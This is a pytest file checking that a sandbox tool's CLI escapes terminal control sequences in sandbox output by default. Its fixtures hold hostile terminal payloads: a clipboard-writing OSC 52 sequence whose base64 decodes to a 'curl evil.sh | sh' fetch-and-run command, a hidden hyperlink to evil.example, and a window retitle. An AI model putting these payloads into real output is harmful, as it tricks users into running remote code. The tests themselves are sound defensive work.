"""The CLI never hands a sandbox's terminal control sequences to the user's terminal unless asked.

Sandbox output printed raw can clear the screen, move the cursor, retitle the window, write
the clipboard (OSC 52) or plant hyperlinks (OSC 8). By default every control character but
newline and tab is shown as a visible escape; ``--raw-output`` prints it as it came.
The service sits behind a fake transport (the seam); the CLI runs in-process.
"""

from __future__ import annotations

import builtins
import json
import re
from collections.abc import Callable, Iterator
from typing import Any

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from execbox import Client
from execbox import cli as cli_module
from execbox._models import DoneEvent, ErrorEvent, Execution, Result, ResultEvent, StderrEvent, StdoutEvent
from execbox.cli import main
from execbox.llm import ChatClient

CSI_CLEAR = "\x1b[2J\x1b[H"
OSC52_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
OSC8_LINK = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"
OSC0_TITLE = "\x1b]0;pwned\x07"
C1_CSI = "\x9b31m"
HOSTILE = CSI_CLEAR + OSC52_CLIPBOARD + OSC8_LINK + OSC0_TITLE + C1_CSI + "\r\x08\x00\x7f\x1bc"
# What a terminal acts on: C0 controls but newline and tab, DEL, C1 controls.
TERMINAL_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
SESSION = {
    "id": "s_1",
    "limits": {"memory_mb": 512, "cpus": 1.0, "timeout_s": 30.0},
    "created_at": "2026-01-01T00:00:00Z",
    "last_used_at": "2026-01-01T00:00:00Z",
    "expires_at": "2026-01-01T00:10:00Z",
}


def hostile_events(payload: str) -> list[Any]:
    """Every place of an execution stream the sandbox fills, filled with ``payload``."""
    error = {"name": f"E{payload}", "value": payload, "traceback": [f"line {payload}", f"E{payload}: {payload}"]}
    execution = Execution.model_validate(
        {
            "status": "error",
            "stdout": f"out {payload}\n",
            "stderr": f"err {payload}\n",
            "error": error,
            "results": [{"data": {"text/plain": f"value {payload}"}, "is_main_result": True}],
        }
    )
    return [
        StdoutEvent(text=f"out {payload}\n"),
        StderrEvent(text=f"err {payload}\n"),
        ResultEvent(result=Result(data={f"image/{payload}": "x", "text/plain": payload})),
        ResultEvent(result=Result(data={"text/plain": f"value {payload}"}, is_main_result=True)),
        ErrorEvent(error=execution.error),  # type: ignore[arg-type]
        DoneEvent(execution=execution),
    ]


def fake_service(events: Callable[[], list[Any]]) -> Client:
    def handler(request: httpx.Request) -> httpx.Response:
        path = request.url.path
        if request.method == "DELETE" and path == "/v1/sessions/s_1":
            return httpx.Response(204)
        if path == "/v1/sessions" and request.method == "POST":
            return httpx.Response(201, json=SESSION)
        if path.endswith("/stream"):
            lines = "".join(json.dumps(e.model_dump(mode="json")) + "\n" for e in events())
            return httpx.Response(200, content=lines.encode())
        if path.endswith("/execute"):
            done = events()[-1]
            return httpx.Response(200, content=json.dumps(done.execution.model_dump(mode="json")).encode())
        return httpx.Response(404, json={"error": {"code": "not_found", "message": f"\x1b[2J{path}"}})

    return Client("http://execbox.test", http_client=httpx.Client(transport=httpx.MockTransport(handler)))


@pytest.fixture
def service(monkeypatch: pytest.MonkeyPatch) -> Callable[[str], None]:
    """Point the CLI at a fake service whose every sandbox-filled field carries a payload."""

    def use(payload: str) -> None:
        monkeypatch.setattr(cli_module, "_client", lambda args: fake_service(lambda: hostile_events(payload)))

    use(HOSTILE)
    return use


def lines_in(monkeypatch: pytest.MonkeyPatch, *lines: str) -> None:
    """Type ``lines`` at the REPL's prompt, then Ctrl-D."""
    queue: Iterator[str] = iter(lines)

    def fake_input(prompt: str = "") -> str:
        try:
            return next(queue)
        except StopIteration:
            raise EOFError from None

    monkeypatch.setattr(builtins, "input", fake_input)


def fake_model(monkeypatch: pytest.MonkeyPatch) -> None:
    def handler(request: httpx.Request) -> httpx.Response:
        return httpx.Response(200, json={"choices": [{"message": {"content": "```python\nprint(1)\n```"}}]})

    def chat(args: Any, url: str | None = None, model: str | None = None) -> ChatClient:
        return ChatClient(
            base_url="http://model.test/v1",
            model="m",
            max_retries=0,
            http_client=httpx.Client(transport=httpx.MockTransport(handler)),
        )

    monkeypatch.setattr(cli_module, "_chat", chat)


def run_cli(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    code = main(argv)
    captured = capsys.readouterr()
    return code, captured.out + captured.err


def assert_neutralised(output: str) -> None:
    assert not TERMINAL_CONTROL.search(output), repr(TERMINAL_CONTROL.findall(output)[:5])
    assert "\\x1b[2J" in output and "\\x1b]52;c;" in output and "\\x9b31m" in output  # shown, not acted on


COMMANDS: dict[str, list[str]] = {
    "run": ["run", "-"],
    "repl": ["repl"],
    "agent": ["agent", "task", "--llm-url", "http://model.test/v1", "--model", "m", "--max-turns", "1"],
}


@pytest.fixture
def stdin_code(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sys.stdin", _StdIn("print(1)\n"))
    lines_in(monkeypatch, "x")
    fake_model(monkeypatch)


class _StdIn:
    def __init__(self, text: str) -> None:
        self._text = text

    def read(self) -> str:
        return self._text


@pytest.mark.parametrize("command", sorted(COMMANDS))
def test_sandbox_control_sequences_are_shown_escaped_by_default(
    command: str, service: Callable[[str], None], stdin_code: None, capsys: pytest.CaptureFixture[str]
) -> None:
    _, output = run_cli(COMMANDS[command], capsys)
    assert_neutralised(output)


@pytest.mark.parametrize("command", ["run", "repl"])
def test_raw_output_prints_the_sandbox_bytes_as_they_came(
    command: str, service: Callable[[str], None], stdin_code: None, capsys: pytest.CaptureFixture[str]
) -> None:
    _, output = run_cli([*COMMANDS[command], "--raw-output"], capsys)
    for sequence in (CSI_CLEAR, OSC52_CLIPBOARD, OSC8_LINK, OSC0_TITLE, C1_CSI):
        assert f"out {HOSTILE}" in output and sequence in output


def test_run_keeps_its_exit_code_and_plain_text(
    service: Callable[[str], None], stdin_code: None, capsys: pytest.CaptureFixture[str]
) -> None:
    service("tab\there\nnewline é 😀")
    code, output = run_cli(["run", "-"], capsys)
    assert code == 1  # the execution ended in an error
    assert "out tab\there\nnewline é 😀\n" in output


def test_lone_surrogates_are_shown_not_raised(
    service: Callable[[str], None], stdin_code: None, capsys: pytest.CaptureFixture[str]
) -> None:
    service("a\udc9bb\ud800")
    for argv in (["run", "-"], ["run", "-", "--raw-output"]):
        code, output = run_cli(argv, capsys)
        assert code == 1 and "a\\udc9bb\\ud800" in output


def test_service_error_messages_are_escaped_too(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(cli_module, "_client", lambda args: fake_service(lambda: []))
    code, output = run_cli(["sessions", "delete", "s_x"], capsys)
    assert code == 3 and "\\x1b[2J" in output and not TERMINAL_CONTROL.search(output)


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(payload=st.text(st.characters(exclude_categories=())))
def test_no_control_character_from_a_sandbox_reaches_the_terminal(
    payload: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(cli_module, "_client", lambda args: fake_service(lambda: hostile_events(payload)))
    monkeypatch.setattr("sys.stdin", _StdIn("print(1)\n"))
    lines_in(monkeypatch, "x")
    for argv in (["run", "-"], ["repl"]):
        capsys.readouterr()
        _, output = run_cli(argv, capsys)
        assert not TERMINAL_CONTROL.search(output)
        assert not re.search("[\ud800-\udfff]", output)
